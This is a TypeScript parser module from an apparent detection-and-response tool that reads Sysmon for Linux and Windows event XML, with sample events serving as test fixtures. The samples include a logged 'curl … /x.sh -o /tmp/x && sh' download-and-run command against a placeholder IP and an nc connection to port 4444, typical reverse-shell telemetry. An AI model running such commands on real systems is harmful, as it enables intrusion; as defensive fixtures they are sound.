import { MdrError } from '../../errors.js';
import { parseEventXml } from './shared/event-xml.js';
import { isEventXml, sysmonLinux } from './shared/sysmon-linux.js';
import { timeError } from './shared/time.js';
import type { Format } from './types.js';
import windows from './windows.js';

const data = (pairs: Record<string, string>): string =>
  Object.entries(pairs)
    .map(([name, value]) => `<Data Name="${name}">${value}</Data>`)
    .join('');
const sysmon = (id: number, time: string, pairs: Record<string, string>): string =>
  `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="${time}"/><EventRecordID>${id * 7}</EventRecordID><Correlation/><Execution ProcessID="811" ThreadID="811"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web-03</Computer><Security UserId="0"/></System><EventData>${data(pairs)}</EventData></Event>`;

const eventxml: Format = {
  name: 'eventxml',
  summary: 'Events as XML, one a line: Sysmon for Linux, the Windows event log (Get-WinEvent, wevtutil)',
  kind: 'line',
  priority: 58,
  accepts: (record) => typeof record === 'string' && isEventXml(record),
  parse(record, received) {
    const event = parseEventXml(record as string);
    if (!event || !windows.accepts(event))
      throw new MdrError(
        'MDR_FORMAT_UNKNOWN',
        'The line begins like an event as XML, but is not one.',
        'Send one whole <Event>…</Event> a line.',
      );
    const parsed = sysmonLinux(event) ?? windows.parse(event, received);
    if (Number.isNaN(parsed.time)) throw timeError('event XML');
    return parsed;
  },
  samples: [
    {
      line: sysmon(1, '2026-03-04T08:00:00.123456000Z', {
        RuleName: '-',
        UtcTime: '2026-03-04 08:00:00.123',
        ProcessGuid: '{ec2a1b2c-0000-0000-0000-000000000001}',
        ProcessId: '4711',
        Image: '/usr/bin/curl',
        CommandLine: 'curl -s http://203.0.113.9/x.sh -o /tmp/x &amp;&amp; sh',
        CurrentDirectory: '/tmp',
        User: 'www-data',
        ParentProcessId: '811',
        ParentImage: '/usr/bin/bash',
        ParentCommandLine: 'bash -i',
      }),
      logsource: { product: 'linux', service: 'sysmon', category: 'process_creation' },
      ecs: {
        '@timestamp': '2026-03-04T08:00:00.123Z',
        'host.name': 'web-03',
        'user.name': 'www-data',
        'process.executable': '/usr/bin/curl',
        'process.command_line': 'curl -s http://203.0.113.9/x.sh -o /tmp/x && sh',
        'process.pid': 4711,
        'process.parent.executable': '/usr/bin/bash',
        'event.dataset': 'linux.sysmon',
      },
      fields: { EventID: 1, Image: '/usr/bin/curl', ParentImage: '/usr/bin/bash', Channel: 'Linux-Sysmon/Operational' },
    },
    {
      line: sysmon(3, '2026-03-04T08:00:01.000000000Z', {
        Image: '/usr/bin/nc',
        User: 'root',
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '10.20.4.17',
        SourcePort: '50300',
        DestinationIp: '192.0.2.14',
        DestinationPort: '4444',
      }),
      logsource: { product: 'linux', service: 'sysmon', category: 'network_connection' },
      ecs: { 'destination.ip': '192.0.2.14', 'destination.port': 4444, 'network.protocol': 'tcp' },
      fields: { Initiated: 'true', DestinationPort: '4444' },
    },
    {
      line: sysmon(11, '2026-03-04T08:00:02.000000000Z', {
        Image: '/usr/bin/vim',
        TargetFilename: '/etc/cron.d/backup',
        User: 'root',
      }),
      logsource: { product: 'linux', service: 'sysmon', category: 'file_event' },
      ecs: { 'file.path': '/etc/cron.d/backup', 'event.action': 'file-created' },
    },
    {
      line: sysmon(16, '2026-03-04T08:00:03.000000000Z', { Configuration: '/opt/sysmon/config.xml' }),
      logsource: { product: 'linux', service: 'sysmon', category: 'sysmon_status' },
      ecs: { 'event.action': 'sysmon-configuration-changed' },
    },
    {
      line: "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4625</EventID><Level>0</Level><Keywords>0x8010000000000000</Keywords><TimeCreated SystemTime='2026-03-04T08:00:04.5000000Z'/><Channel>Security</Channel><Computer>dc-1.corp.example</Computer></System><EventData><Data Name='TargetUserName'>admin</Data><Data Name='LogonType'>3</Data><Data Name='IpAddress'>203.0.113.9</Data></EventData></Event>",
      logsource: { product: 'windows', service: 'security' },
      ecs: {
        '@timestamp': '2026-03-04T08:00:04.500Z',
        'event.action': 'logon-failed',
        'user.name': 'admin',
        'source.ip': '203.0.113.9',
        'host.name': 'dc-1.corp.example',
      },
      fields: { EventID: 4625, Provider_Name: 'Microsoft-Windows-Security-Auditing' },
    },
  ],
};
export default eventxml;
